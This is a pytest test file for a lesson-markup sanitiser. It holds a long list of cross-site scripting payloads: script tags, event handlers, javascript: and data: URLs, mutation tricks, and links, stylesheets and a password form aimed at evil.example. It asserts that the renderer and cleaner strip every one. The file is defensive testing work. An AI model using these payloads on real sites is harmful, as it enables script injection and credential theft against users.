import re
from html.parser import HTMLParser

import pytest

from app.markup.clean import clean, clean_for_package, may_stand
from app.markup.lesson import compose
from app.markup.texts import writer
from tests.support.lesson_jobs import lesson

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<img src=x onerror=alert(1)>",
    "<img src='/media/x' onload=alert(1)>",
    "<img src=//evil.example/x>",
    "<img src=data:image/svg+xml;base64,PHN2Zy8+>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<form action=//evil.example><input name=password><button>go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select><option onclick=alert(1)>x</select>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='/\t/evil.example'>x</a>",
    "<a href='https:evil.example'>x</a>",
    "<a href='/x' target=_blank ping=//evil.example>x</a>",
    "<p id=main name=csrf class='button primary'>x</p>",
    "<p onclick=alert(1)>x</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\/evil.example)",
    "[x](/&#9;/evil.example)",
    "[x](https:/evil.example)",
    '[x](/x "\\" onmouseover=alert(1) ")',
    '[x](/x"onmouseover="alert(1))',
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "![x](/media/../sign-out)",
    "![x](/logout)",
    '!["onerror=alert(1)](/media/x)',
    '![x](/media/x "\' onerror=alert(1)")',
    '```js" onclick="alert(1)\nx\n```',
    "``` { .x onclick=alert(1) style=color:red }\nx\n```",
    "/// note | <img src=x onerror=alert(1)>\n<script>alert(1)</script>\n///",
    '/// details | "><script>alert(1)</script>\nx\n///',
    "# <script>alert(1)</script>\n\nx",
    "## x {: onclick=alert(1) style=color:red }",
    "[^1<script>]\n\n[^1<script>]: <img src=x onerror=alert(1)>",
    "[[presumed-victim|<img src=x onerror=alert(1)>]]",
    "[[presumed-victim|[x](javascript:alert(1))]]",
    '[@handbook, " onclick="alert(1)]',
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | d |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "<div markdown=1><script>alert(1)</script></div>",
]
HREF = re.compile(r"https?://[^/\\\s]+\S*|mailto:[^\s:/]+@\S+|/(?![/\\])\S*|#\S+")
TAGS = {
    "a",
    "p",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "ul",
    "ol",
    "li",
    "dl",
    "dt",
    "dd",
    "blockquote",
    "pre",
    "code",
    "em",
    "strong",
    "sup",
    "sub",
    "br",
    "hr",
    "img",
    "figure",
    "figcaption",
    "table",
    "caption",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "div",
    "span",
    "details",
    "summary",
    "audio",
    "video",
    "track",
}
ATTRIBUTES = {
    "id",
    "class",
    "href",
    "src",
    "alt",
    "aria-label",
    "role",
    "tabindex",
    "dir",
    "scope",
    "rel",
    "loading",
    "width",
    "height",
    "start",
    "controls",
    "preload",
    "kind",
    "srclang",
    "default",
}


class _Watch(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.alive: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.alive.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.alive.append(f"{tag} {name}")
            if name == "href" and not HREF.fullmatch(value or ""):
                self.alive.append(f"{tag} {name}={value}")
            if name == "src" and (not (value or "").startswith("/media/") or ".." in (value or "")):
                self.alive.append(f"{tag} {name}={value}")
            if name == "id" and not re.match(r"h-|fn", value or ""):
                self.alive.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        self.alive.append(f"comment {data}")


def _alive(html: str) -> list[str]:
    watch = _Watch()
    watch.feed(html)
    watch.close()
    return watch.alive


def test_detector_finds_active_content():
    assert _alive("<p onclick=x><script></script><a href=//evil.example></a><img src=x></p><!-- x -->") == [
        "p onclick", "script", "a href=//evil.example", "img src=x", "comment  x ",
    ]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_lives(payload):
    rendered = compose(lesson(f"# T\n\n{payload}\n\n- {payload}\n\n> {payload}"))
    pieces = [part.html for part in rendered.parts]
    pieces += [writer(inline=inline, labels=None, media={})(payload) for inline in (True, False)]
    pieces += [clean(payload)]
    assert [_alive(piece) for piece in pieces] == [[]] * len(pieces)


def test_raw_html_is_shown_as_text():
    rendered = compose(lesson("A <b>bold</b> word.\n\n<div>\nx\n</div>"))
    assert rendered.parts[0].html == (
        '<p id="h-1">A &lt;b&gt;bold&lt;/b&gt; word.</p>\n<p id="h-2">&lt;div&gt;\nx\n&lt;/div&gt;</p>'
    )


def test_cleaning_again_changes_nothing():
    html = "".join(
        part.html
        for part in compose(
            lesson(
                "[[presumed-victim]] [x](https://example.org)[^1] [@handbook]\n\n> q\n\n|a|b|\n|-|-|\n|c|d|\n\n[^1]: f"
            )
        ).parts
    )
    assert clean(html) == html


def test_package_has_media_at_its_own_addresses_and_no_others():
    html = '<p><img src="/media/a" alt="A"><img src="/media/b" alt="B"></p>'
    expected = '<p><img src="media/a.png" alt="A"><img alt="B"></p>'
    assert clean_for_package(html, {"/media/a": "media/a.png"}) == expected


def test_package_has_links_within_its_page_only():
    html = (
        '<p><a href="#fn-1">1</a> <a href="/courses">2</a> <a href="mailto:desk@example.org">3</a> '
        '<a href="https://example.org">4<span class="vh"> (leaves this site)</span></a></p>'
    )
    assert clean_for_package(html, {}) == '<p><a href="#fn-1">1</a> <a>2</a> <a>3</a> <a>4</a></p>'


def test_package_has_no_script():
    assert clean_for_package('<p onclick="x()">A<script>x()</script></p>', {}) == "<p>A</p>"


def test_classes_and_ids_off_the_list_are_taken_out():
    assert clean('<p id="main" class="label button">x</p><div class="block is-note hero" id="h-3">y</div>') == (
        '<p class="label">x</p><div class="block is-note" id="h-3">y</div>'
    )


@pytest.mark.parametrize(
    ("attribute", "value", "may"),
    [
        ("href", "https://example.org/a", True),
        ("href", "/courses/first-steps", True),
        ("href", "#h-3", True),
        ("href", "mailto:desk@example.org", True),
        ("href", "//example.org", False),
        ("href", "/\t/example.org", False),
        ("href", "/\\example.org", False),
        ("href", "/x\\y", False),
        ("href", "https:example.org", False),
        ("href", "https:///example.org", False),
        ("href", "javascript:alert(1)", False),
        ("href", "relative", False),
        ("src", "/media/3f2a", True),
        ("src", "/media/../sign-out", False),
        ("src", "/media//example.org", True),
        ("src", "/static/x.png", False),
        ("id", "h-term-x", True),
        ("id", "fnref2:a", True),
        ("id", "main", False),
        ("id", "h-", False),
    ],
)
def test_shape_of_an_attribute(attribute, value, may):
    assert may_stand(attribute, value) is may
